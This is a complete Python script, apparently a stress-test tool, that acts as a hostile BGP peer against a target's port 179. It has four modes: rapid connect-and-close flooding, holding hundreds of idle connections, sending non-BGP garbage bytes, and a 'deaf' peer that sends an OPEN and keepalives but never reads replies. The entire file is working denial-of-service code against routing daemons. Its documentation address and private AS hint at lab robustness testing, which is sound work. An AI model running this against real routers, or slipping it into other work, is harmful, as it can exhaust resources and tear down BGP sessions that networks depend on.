"""A peer that means no good: bgp_flood.py SOURCE DESTINATION MODE SECONDS; prints how many connections it made.

connect: opens and closes as fast as it can; hold: keeps hundreds open without a word; garbage: sends what is no BGP;
deaf: comes up with AS 65066, then sends keepalives and reads nothing.
"""
import socket
import struct
import sys
import time


def message(kind, body=b""):
    return b"\xff" * 16 + struct.pack(">HB", 19 + len(body), kind) + body


def deaf(peer, end):
    capabilities = bytes.fromhex("010400010001" + "4104") + struct.pack(">I", 65066)
    parameters = bytes([2, len(capabilities)]) + capabilities
    peer.sendall(message(1, struct.pack(">BHHIB", 4, 65066, 90, 0xC0000242, len(parameters)) + parameters))
    while time.monotonic() < end:
        peer.sendall(message(4))
        time.sleep(1)


def main():
    source, destination, mode, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    end, made, held = time.monotonic() + seconds, 0, []
    while time.monotonic() < end:
        peer = socket.socket()
        peer.settimeout(5)
        if mode == "deaf":
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            peer.bind((source, 0))
            peer.connect((destination, 179))
            made += 1
            if mode == "deaf":
                deaf(peer, end)
            elif mode == "garbage":
                peer.sendall(bytes(range(256)) * 4)
        except OSError:
            time.sleep(0.001)
        held.append(peer)
        if mode != "hold" or len(held) > 400:
            held.pop(0).close()
    print(made)


if __name__ == "__main__":
    main()
